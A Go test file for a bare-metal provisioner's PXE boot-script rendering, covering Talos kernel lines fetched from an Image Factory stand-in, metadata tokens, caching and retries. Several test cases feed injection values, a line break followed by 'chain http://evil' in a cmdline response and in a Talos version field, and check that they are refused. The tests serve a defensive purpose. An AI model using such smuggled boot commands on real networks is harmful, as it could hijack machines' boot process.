package boot_test

import (
	"context"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/siderolabs/image-factory/pkg/client"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/anvil-metal/anvil/internal/earlyconfig"
	"github.com/anvil-metal/anvil/internal/labfactory"
	"github.com/anvil-metal/anvil/internal/token"
	"github.com/anvil-metal/anvil/provider/internal/boot"
	"github.com/anvil-metal/anvil/provider/internal/lifecycle"
	"github.com/anvil-metal/anvil/provider/internal/resources"
)

// countingFactory is the Image Factory stand-in, counting every request by path (the
// stand-in's Downloads counts only the successful ones).
type countingFactory struct {
	*labfactory.Factory

	mu   sync.Mutex
	hits map[string]int
}

func (f *countingFactory) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	f.mu.Lock()
	f.hits[r.URL.Path]++
	f.mu.Unlock()

	f.Factory.ServeHTTP(w, r)
}

func (f *countingFactory) requests(path string) int {
	f.mu.Lock()
	defer f.mu.Unlock()

	return f.hits[path]
}

// factoryFor starts the Image Factory stand-in as s's PXE endpoint (its boots without a
// cache) and registers with it the schematic s builds for no extensions and kernel args:
// its ID.
func factoryFor(t *testing.T, s *boot.Scripts) (*countingFactory, string) {
	t.Helper()

	f := &countingFactory{Factory: labfactory.New(), hits: map[string]int{}}
	srv := httptest.NewServer(f)
	t.Cleanup(srv.Close)

	s.FactoryPXEBaseURL = srv.URL
	s.HTTPClient = srv.Client()

	return f, register(t, s)
}

// register registers the schematic s builds for no extensions and kernel args with s's
// factory, and returns its ID.
func register(t *testing.T, s *boot.Scripts) string {
	t.Helper()

	sc, err := s.Schematic(nil, nil)
	require.NoError(t, err)

	c, err := client.New(s.FactoryPXEBaseURL)
	require.NoError(t, err)

	id, _, err := c.SchematicCreate(t.Context(), sc)
	require.NoError(t, err)

	return id
}

// kernelLine splits a script's kernel line into its URL and its arguments.
func kernelLine(t *testing.T, script string) (string, []string) {
	t.Helper()

	for line := range strings.SplitSeq(script, "\n") {
		if f := strings.Fields(line); len(f) > 1 && f[0] == "kernel" {
			return f[1], f[2:]
		}
	}

	require.Failf(t, "no kernel line", "%s", script)

	return "", nil
}

// assertBootArgs checks one boot's kernel arguments for what the provider adds to the
// factory's cmdline: the metadata URL with the machine's valid metadata token for the
// allocation and, standalone, the provider's event sink; and nothing left for iPXE to
// expand.
func assertBootArgs(t *testing.T, args []string, claims func(machine, allocation string) token.Claims, machine, allocation, talosVersion string, standalone bool) {
	t.Helper()

	assert.NotContains(t, strings.Join(args, " "), "${", "nothing is left for iPXE to expand")

	var configs, early []string

	sinks := 0

	for _, arg := range args {
		if u, ok := strings.CutPrefix(arg, "talos.config="); ok {
			configs = append(configs, u)
		}

		if v, ok := strings.CutPrefix(arg, earlyconfig.Param+"="); ok {
			early = append(early, v)
		}

		if arg == "talos.events.sink=10.77.0.1:50042" {
			sinks++
		}
	}

	require.Len(t, configs, 1, "one talos.config= in %q", args)

	// A Talos that reads talos.config.early is given the provider's CA there and fetches
	// its configuration over HTTPS; an older one over HTTP.
	base := "http://10.77.0.1:50042"
	if earlyconfig.Supported(talosVersion) {
		base = "https://10.77.0.1:50042"

		assert.Equal(t, []string{testEarlyConfig}, early, "Talos %s is given the provider's CA: %q", talosVersion, args)
	} else {
		assert.Empty(t, early, "Talos %s does not read talos.config.early: %q", talosVersion, args)
	}

	tok, ok := strings.CutPrefix(configs[0], base+"/metadata/"+machine+"?token=")
	require.True(t, ok, "the metadata URL of machine %s at %s: %s", machine, base, configs[0])

	got, err := token.Verify(testKey, tok)
	require.NoError(t, err, "the token verifies")
	assert.Equal(t, claims(machine, allocation), got, "the machine's token for the allocation, of the kind its path carries")

	if standalone {
		assert.Equal(t, 1, sinks, "standalone, the provider's event sink: %q", args)
	} else {
		assert.Zero(t, sinks, "in Omni mode, Omni's sink only: %q", args)
	}
}

func machineN(i int) string {
	return "4c4c4544-0000-1000-8000-0000000000" + string(rune('a'+i/10)) + string(rune('0'+i%10))
}

// TestTalosFromFactory: without a cache, a machine boots the factory's kernel and
// initramfs with the factory's cmdline and its own boot arguments after it; forty
// machines booting one schematic, at once and then again, cost the factory one request
// for the cmdline.
func TestTalosFromFactory(t *testing.T) {
	t.Parallel()

	for _, omni := range []bool{false, true} {
		t.Run(map[bool]string{false: "standalone", true: "Omni"}[omni], func(t *testing.T) {
			t.Parallel()

			s := testScripts(t, true)
			s.TalosKernelArgs = []string{"console=ttyS1,115200"}

			join := []string{"siderolink.api=grpc://10.77.0.3:8090?jointoken=v2%3Ax", "talos.events.sink=[fdae::1]:8091"}
			if omni {
				s.JoinArgs = func() ([]string, bool) { return join, true }
			}

			f, id := factoryFor(t, s)
			alloc := &resources.Allocation{ID: "a1", TalosVersion: "v1.9.0", SchematicID: id}
			image := s.FactoryPXEBaseURL + "/image/" + id + "/v1.9.0/"

			var (
				wg      sync.WaitGroup
				mu      sync.Mutex
				scripts = map[string]boot.Script{}
			)

			for i := range 40 {
				wg.Go(func() {
					if i >= 20 {
						// The second half a little later: from memory, or waiting for
						// the fetch the first started.
						time.Sleep(50 * time.Millisecond)
					}

					got := s.Render(t.Context(), boot.Request{MachineID: machineN(i), Arch: "amd64"},
						lifecycle.BootDecision{Boot: lifecycle.BootTalos, Allocation: alloc}, token.Claims{})

					mu.Lock()
					scripts[machineN(i)] = got
					mu.Unlock()
				})
			}

			wg.Wait()

			assert.Equal(t, 1, f.requests("/image/"+id+"/v1.9.0/cmdline-metal-amd64"), "one cmdline request for forty boots")

			for machine, got := range scripts {
				require.Equal(t, http.StatusOK, got.Status)
				require.True(t, got.Handoff, got.Body)
				assert.Zero(t, got.AgentToken)
				assert.True(t, strings.HasPrefix(got.Body, "#!ipxe\nimgfree\nkernel "+image+"kernel-amd64 initrd=initramfs-amd64.xz talos.platform=metal "+labfactory.BaseCmdline+" "), got.Body)
				assert.True(t, strings.HasSuffix(got.Body, "\ninitrd "+image+"initramfs-amd64.xz\nboot\n"), got.Body)
				assert.NotContains(t, got.Body, "chain", "the provider renders the boot itself")

				_, args := kernelLine(t, got.Body)
				assertBootArgs(t, args, boot.MetadataClaims, machine, "a1", alloc.TalosVersion, !omni)

				// The factory's cmdline (the schematic's args among it), then the boot's own.
				line := strings.Join(args, " ")
				assert.Less(t, strings.Index(line, "console=ttyS1,115200"), strings.Index(line, "talos.config="))

				if omni {
					assert.Less(t, strings.Index(line, join[0]), strings.Index(line, "talos.config="), "Omni's join args, from the schematic")
				}
			}
		})
	}
}

// TestTalosFromFactoryRegistersTheSchematic: a factory that does not know the schematic
// yet (404) gets it registered, once, and is asked again; without a way to register, the
// machine is told to retry.
func TestTalosFromFactoryRegistersTheSchematic(t *testing.T) {
	t.Parallel()

	s := testScripts(t, true)
	f, _ := factoryFor(t, s)

	// A schematic the factory does not know: the allocation's kernel args.
	sc, err := s.Schematic(nil, []string{"console=ttyS0"})
	require.NoError(t, err)

	id, err := sc.ID()
	require.NoError(t, err)

	alloc := &resources.Allocation{ID: "a1", TalosVersion: "v1.9.0", SchematicID: id}
	d := lifecycle.BootDecision{Boot: lifecycle.BootTalos, Allocation: alloc}

	got := s.Render(t.Context(), testReq, d, token.Claims{})
	assert.False(t, got.Handoff)
	assert.Contains(t, got.Body, "404")
	assert.Contains(t, got.Body, "retrying in 10 s")

	c, err := client.New(s.FactoryPXEBaseURL)
	require.NoError(t, err)

	var registered atomic.Int32

	s.RegisterSchematic = func(ctx context.Context, machineID string, a *resources.Allocation) error {
		registered.Add(1)
		assert.Equal(t, "m1", machineID)

		got, _, err := c.SchematicCreate(ctx, sc)
		assert.Equal(t, a.SchematicID, got)

		return err
	}

	for range 3 {
		got = s.Render(t.Context(), testReq, d, token.Claims{})
		require.True(t, got.Handoff, got.Body)
		assert.Contains(t, got.Body, "kernel "+s.FactoryPXEBaseURL+"/image/"+id+"/v1.9.0/kernel-amd64 ")
	}

	assert.EqualValues(t, 1, registered.Load(), "registered once")
	assert.Equal(t, 3, f.requests("/image/"+id+"/v1.9.0/cmdline-metal-amd64"), "the refused fetch, then one before and one after the registration")

	_, args := kernelLine(t, got.Body)
	assert.Contains(t, args, "console=ttyS0", "the allocation's args, from the factory")
	assertBootArgs(t, args, boot.MetadataClaims, "m1", "a1", alloc.TalosVersion, true)

	// A registration that fails: the machine retries, and says why.
	s.RegisterSchematic = func(context.Context, string, *resources.Allocation) error { return assert.AnError }
	alloc = &resources.Allocation{ID: "a2", TalosVersion: "v1.10.0", SchematicID: strings.Repeat("0", 64)}

	got = s.Render(t.Context(), testReq, lifecycle.BootDecision{Boot: lifecycle.BootTalos, Allocation: alloc}, token.Claims{})
	assert.False(t, got.Handoff)
	assert.Contains(t, got.Body, "registering the schematic: "+assert.AnError.Error())
}

// TestTalosFromFactoryRefuses: what the factory answers is a cmdline only when it is one
// a kernel line can carry; otherwise, or when the factory fails, the machine is told to
// retry (and the failure is not kept: the next boot asks again).
func TestTalosFromFactoryRefuses(t *testing.T) {
	t.Parallel()

	schematic := strings.Repeat("a", 64)

	for _, tc := range []struct {
		name, body string
		status     int
		want       string
	}{
		{"a server error", "oops", http.StatusInternalServerError, "answered 500"},
		{"a control character", "talos.platform=metal console=tty0\x1b[2J", http.StatusOK, "cannot carry"},
		{"a NUL", "talos.platform=metal\x00", http.StatusOK, "cannot carry"},
		{"a line break then a command", "talos.platform=metal\n\x07chain http://evil", http.StatusOK, "cannot carry"},
		{"over the bound", "talos.platform=metal " + strings.Repeat("x", 64<<10), http.StatusOK, "more than 65536 bytes"},
		{"empty", " \n", http.StatusOK, "empty"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()

			var (
				requests atomic.Int32
				good     atomic.Bool
			)

			srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				requests.Add(1)
				assert.Equal(t, "/image/"+schematic+"/v1.9.0/cmdline-metal-amd64", r.URL.Path)

				if good.Load() {
					_, _ = w.Write([]byte("talos.platform=metal console=tty0\n"))

					return
				}

				w.WriteHeader(tc.status)
				_, _ = w.Write([]byte(tc.body))
			}))
			t.Cleanup(srv.Close)

			s := testScripts(t, true)
			s.FactoryPXEBaseURL = srv.URL
			d := lifecycle.BootDecision{Boot: lifecycle.BootTalos, Allocation: &resources.Allocation{ID: "a1", TalosVersion: "v1.9.0", SchematicID: schematic}}

			got := s.Render(t.Context(), testReq, d, token.Claims{})
			assertRetry(t, got, tc.want)
			assert.NotContains(t, got.Body, "\nchain http://evil")

			good.Store(true)

			got = s.Render(t.Context(), testReq, d, token.Claims{})
			require.True(t, got.Handoff, "the failure is not kept: %s", got.Body)
			assert.Contains(t, got.Body, " talos.platform=metal console=tty0 talos.config=")
			assert.EqualValues(t, 2, requests.Load())
		})
	}
}

// assertRetry checks that a script boots nothing and asks again in 10 s, saying why.
func assertRetry(t *testing.T, got boot.Script, why string) {
	t.Helper()

	assert.Equal(t, http.StatusOK, got.Status)
	assert.False(t, got.Handoff, got.Body)
	assert.True(t, strings.HasPrefix(got.Body, "#!ipxe\necho Anvil: the Talos boot assets are not ready ("), got.Body)
	assert.Contains(t, got.Body, why)
	assert.True(t, strings.HasSuffix(got.Body, "; retrying in 10 s\nsleep 10\nchain http://10.77.0.1:50042/ipxe/start.ipxe\n"), got.Body)
	assert.NotContains(t, got.Body, "\nkernel ")
	assert.NotContains(t, got.Body, "talos.config=")
}

// TestTalosFromFactoryUnreachable: a factory that cannot be reached, or an allocation the
// factory could not serve, is a retry; a fetch that outlasts the machine's request goes
// on, and the next boot gets its cmdline without asking the factory again.
func TestTalosFromFactoryUnreachable(t *testing.T) {
	t.Parallel()

	schematic := strings.Repeat("b", 64)
	d := lifecycle.BootDecision{Boot: lifecycle.BootTalos, Allocation: &resources.Allocation{ID: "a1", TalosVersion: "v1.9.0", SchematicID: schematic}}

	gone := httptest.NewServer(http.NotFoundHandler())
	gone.Close()

	s := testScripts(t, true)
	s.FactoryPXEBaseURL = gone.URL
	assertRetry(t, s.Render(t.Context(), testReq, d, token.Claims{}), "error fetching the cmdline "+schematic+"/v1.9.0/cmdline-metal-amd64")

	var requests atomic.Int32

	release := make(chan struct{})
	slow := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		requests.Add(1)
		<-release
		_, _ = w.Write([]byte("talos.platform=metal"))
	}))
	t.Cleanup(slow.Close)

	s = testScripts(t, true)
	s.FactoryPXEBaseURL = slow.URL

	ctx, cancel := context.WithTimeout(t.Context(), 100*time.Millisecond)
	defer cancel()

	assertRetry(t, s.Render(ctx, testReq, d, token.Claims{}), "waiting for the Image Factory's cmdline")
	close(release)

	got := s.Render(t.Context(), testReq, d, token.Claims{})
	require.True(t, got.Handoff, got.Body)
	assert.EqualValues(t, 1, requests.Load(), "the fetch the first boot started")

	for name, alloc := range map[string]*resources.Allocation{
		"not 64 lowercase hex digits": {ID: "a1", TalosVersion: "v1.9.0", SchematicID: "abc123"},
		"not a Talos version like":    {ID: "a1", TalosVersion: "v1.9.0\nchain http://evil", SchematicID: schematic},
		"is not one of amd64, arm64":  nil,
	} {
		req := testReq
		if alloc == nil {
			alloc, req.Arch = d.Allocation, "riscv64"
		}

		got := s.Render(t.Context(), req, lifecycle.BootDecision{Boot: lifecycle.BootTalos, Allocation: alloc}, token.Claims{})
		assertRetry(t, got, name)
		assert.NotContains(t, got.Body, "\nchain http://evil", "a line no more")
	}

	assert.EqualValues(t, 1, requests.Load(), "what the factory could not serve is not asked for")
}
